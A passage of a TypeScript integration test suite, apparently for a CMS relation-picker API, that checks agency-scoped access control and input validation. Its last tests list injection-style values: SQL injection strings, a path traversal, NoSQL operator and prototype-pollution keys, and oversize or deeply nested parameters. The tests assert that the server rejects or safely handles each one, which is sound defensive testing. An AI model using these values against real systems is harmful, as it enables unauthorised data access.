  const get = (t: string, path: string) => call(cms.url, t, 'GET', `${REL}/${path}`);
  const idsOf = (r: { body: any }) => (r.body?.results ?? []).map((x: any) => x.documentId);

  it("the board and the council list and read the homepage's featured articles (single type, with and without its documentId) as the admin panel asks", async () => {
    for (const t of [tok.board, tok.council]) {
      const r = await get(t, `${HOME}/featuredArticles`);
      expect(r.status, JSON.stringify(r.body).slice(0, 300)).toBe(200);
    }
    for (const path of [
      `${HOME}/featuredArticles`,
      `${HOME}/featuredArticles?id=&pageSize=10&_q=&page=1`,
      `${HOME}/featuredArticles?id=${homeId}&pageSize=10&page=1&status=draft`,
      `${HOME}/${homeId}/featuredArticles?pageSize=5&page=1&status=draft`,
    ]) {
      const r = await get(tok.board, path);
      expect(r.status, `${path}: ${JSON.stringify(r.body).slice(0, 300)}`).toBe(200);
    }
    const all = await get(tok.board, `${HOME}/featuredArticles?pageSize=100`);
    expect(idsOf(all)).toEqual(expect.arrayContaining([doc.draftA.documentId, doc.draftB.documentId]));
  });

  it("an agency editor's pickers list only its agency's items; another agency's item or a board-only type is 403", async () => {
    const laws = await get(tok.editorB, `${PROC}/legalBasis?id=${ownProc}&pageSize=100&_q=&page=1&status=draft&plugins[i18n][locale]=vi`);
    expect(laws.status, JSON.stringify(laws.body).slice(0, 300)).toBe(200);
    expect(idsOf(laws)).toContain(doc.lawB.documentId);
    expect(idsOf(laws)).not.toContain(doc.lawDraftA.documentId);
    expect(idsOf(laws)).not.toContain(doc.lawA.documentId);
    const agencies = await get(tok.editorB, `${ART}/agency?pageSize=100`);
    expect(agencies.status).toBe(200);
    expect(idsOf(agencies)).toEqual([agency.B]);
    const articles = await get(tok.editorB, `${AGENCY}/articles?pageSize=100`);
    expect(idsOf(articles)).not.toContain(doc.draftA.documentId);
    expect(leaks(articles.body)).toEqual([]);
    // what its own procedure links: the other agency's published document is named by id only
    const linked = await get(tok.editorB, `${PROC}/${ownProc}/legalBasis?page=1&pageSize=10`);
    expect(linked.status).toBe(200);
    expect(idsOf(linked)).toEqual([doc.lawA.documentId]);
    expect(JSON.stringify(linked.body)).not.toContain('01/2026/QĐ-UBND');
    for (const path of [`${ART}/${doc.draftA.documentId}/agency`, `${HOME}/featuredArticles`, `${HOME}/${homeId}/featuredArticles`]) {
      const r = await get(tok.editorB, path);
      expect(r.status, path).toBe(403);
      expect(r.body.error.message, path).toMatch(/^Danh sách liên kết: tài khoản không có quyền xem trường "(agency|featuredArticles)"/);
      expect(leaks(r.body), path).toEqual([]);
    }
  });

  it('query parameters that would shape the database query are refused, for the board too — nothing follows a picked row into another agency', async () => {
    for (const t of [tok.editorB, tok.board]) {
      for (const q of [
        'populate[agency][populate][articles][fields][0]=title',
        'populate=*',
        `filters[agency][documentId][$eq]=${agency.A}`,
        'filters[replaces][abstract][$contains]=a',
        'fields[0]=abstract',
        'sort=abstract:asc',
        '_filter=$in',
        'where[id]=1',
        'limit=100000',
        'offset=5',
      ]) {
        const r = await get(t, `${PROC}/legalBasis?${q}`);
        expect(r.status, q).toBe(400);
        const param = q.split(/[[=]/)[0];
        expect(r.body.error.message, q).toContain(`"${param}"`);
        expect(r.body.error.details.errors[0].path, q).toEqual([param]);
        expect(leaks(r.body), q).toEqual([]);
      }
    }
  });

  it('an unknown type or field is 404; a field that is no relation, a bad id, an oversize or malformed parameter is 400 — never 500', async () => {
    const deep = `filters${'[a]'.repeat(30)}=1`;
    const many = Array.from({ length: 150 }, (_, i) => `idsToOmit[${i}]=${i + 1}`).join('&');
    const cases: [string, number][] = [
      ['api::khong-co.khong-co/agency', 404],
      ['plugin::khong-co.x/agency', 404],
      [`${ART}/khongCo`, 404],
      [`${ART}/constructor`, 404],
      [`${ART}/__proto__`, 404],
      [`${ART}/title`, 400],
      [`${HOME}/welcome`, 400],
      [`${ART}/createdBy`, 400],
      [`${ART}/${encodeURIComponent("x' OR 1=1 --")}/agency`, 400],
      [`${ART}/agency?id=${encodeURIComponent('../../etc')}`, 400],
      [`${ART}/agency?id[$ne]=x`, 400],
      [`${ART}/agency?pageSize=1e9`, 400],
      [`${ART}/agency?pageSize=0`, 400],
      [`${ART}/agency?pageSize=101`, 400],
      [`${ART}/agency?page=1e300`, 400],
      [`${ART}/agency?page=-1`, 400],
      [`${ART}/${doc.draftB.documentId}/agency?pageSize=1e9`, 400],
      [`${ART}/${doc.draftB.documentId}/agency?_q=x`, 200],
      [`${ART}/agency?_q=${'a'.repeat(10_000)}`, 400],
      [`${ART}/agency?_q[]=a`, 400],
      [`${ART}/agency?_q[$ne]=a`, 400],
      [`${ART}/agency?${deep}`, 400],
      [`${ART}/agency?${many}`, 400],
      [`${ART}/agency?idsToOmit[0]=abc`, 400],
      [`${ART}/agency?status=xyz`, 400],
      [`${ART}/agency?status[]=draft`, 400],
      [`${ART}/agency?locale[$ne]=x`, 400],
      [`${ART}/agency?_q=${encodeURIComponent("%' OR 1=1 --")}`, 200],
      [`${ART}/agency?unknown=1`, 200],
    ];
    for (const t of [tok.editorB, tok.board]) {
      for (const [path, expected] of cases) {
        const r = await get(t, path);
        expect(r.status, `${path.slice(0, 120)}: ${JSON.stringify(r.body).slice(0, 300)}`).toBe(expected);
        if (expected !== 200) expect(r.body.error.message, path.slice(0, 120)).toMatch(/^Danh sách liên kết: /);
      }
    }
  });
});
